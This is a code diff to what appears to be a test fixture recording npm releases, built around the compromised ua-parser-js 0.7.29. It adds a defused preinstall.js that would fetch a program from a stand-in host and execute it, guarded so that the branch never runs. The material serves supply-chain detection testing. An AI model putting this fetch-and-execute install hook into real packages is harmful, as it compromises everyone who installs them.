@@ -9,6 +9,8 @@ export interface RecordedRelease {
   readonly publishedAt: string
   readonly publisher: string
   readonly scripts?: Readonly<Record<string, string>>
+  /** What is in it besides a manifest and a line of code. */
+  readonly files?: Readonly<Record<string, string>>
 }
 
 export interface RecordedPackage {
@@ -24,6 +26,14 @@ const release =
 const faisalman = release('faisalman')
 const sindresorhus = release('sindresorhus')
 
+// The recorded script fetched a program and started it. This one has the same abilities, and never uses them.
+const preinstall = `const { exec } = require('child_process')
+const https = require('https')
+if (process.argv.includes('--never')) {
+  https.get('https://files.example.test/program', () => exec('./program'))
+}
+`
+
 export const recording: readonly RecordedPackage[] = [
   {
     name: 'ua-parser-js',
@@ -37,7 +47,8 @@ export const recording: readonly RecordedPackage[] = [
       faisalman('0.7.28', '2021-04-10T00:57:00.000Z'),
       {
         ...faisalman('0.7.29', '2021-10-22T12:15:21.000Z'),
-        scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' }
+        scripts: { preinstall: 'start /B node preinstall.js & node preinstall.js' },
+        files: { 'preinstall.js': preinstall }
       }
     ]
   },
